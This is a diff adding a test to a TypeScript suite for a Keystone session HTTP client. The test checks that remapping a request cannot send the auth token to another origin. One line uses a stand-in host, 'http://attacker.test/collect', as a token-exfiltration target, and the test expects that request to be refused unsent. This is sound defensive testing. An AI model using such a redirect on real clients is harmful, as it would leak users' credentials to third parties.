@@ -5,6 +5,7 @@
  */
 import * as FetchHttpClient from "@effect/platform/FetchHttpClient"
 import * as HttpClient from "@effect/platform/HttpClient"
+import * as HttpClientRequest from "@effect/platform/HttpClientRequest"
 import * as NodeHttpClient from "@effect/platform-node/NodeHttpClient"
 import { describe, expect, it } from "@effect/vitest"
 import { KeystoneSim } from "@effect-keystone/testing"
@@ -86,6 +87,22 @@ describe("KeystoneSession.httpClient: where the token goes", () => {
       const withToken = rec.sent.filter((r) => r.token !== undefined).map((r) => new URL(r.url).origin)
       expect(new Set(withToken)).toEqual(new Set(["http://compute.region-two.test:8774", env.sim.baseUrl]))
       expect(rec.sent.some((r) => r.url.includes("attacker.test") || r.url.includes(":9999") || r.url.startsWith("https:"))).toBe(false)
+    }))
+
+  it.scoped("the check sees the request as sent: a HttpClient.mapRequest around the session's client cannot move the token elsewhere", () =>
+    Effect.gen(function*() {
+      const rec = recording()
+      const env = yield* makeEnv({ wrapHttp: rec.wrap })
+      const session = yield* makeSession(env)
+      const compute = yield* session.endpoint({ type: "compute", region: "RegionTwo" })
+      const http = yield* session.httpClient
+      // a relative path made absolute by the caller's mapping is checked (and allowed) as absolute
+      const prefixed = HttpClient.mapRequest(http, HttpClientRequest.prependUrl(compute))
+      expect((yield* prefixed.get("/servers")).status).toBe(200)
+      // a mapping that points the request elsewhere is refused, unsent
+      const moved = HttpClient.mapRequest(http, HttpClientRequest.setUrl("http://attacker.test/collect"))
+      expect((yield* Effect.flip(moved.get(`${compute}/servers`)))._tag).toBe("OriginNotAllowed")
+      expect(rec.sent.some((r) => r.url.includes("attacker.test"))).toBe(false)
     }))
 
   it.scoped("allowOrigins adds origins (a path in an entry is ignored); an invalid entry allows nothing and is logged", () =>
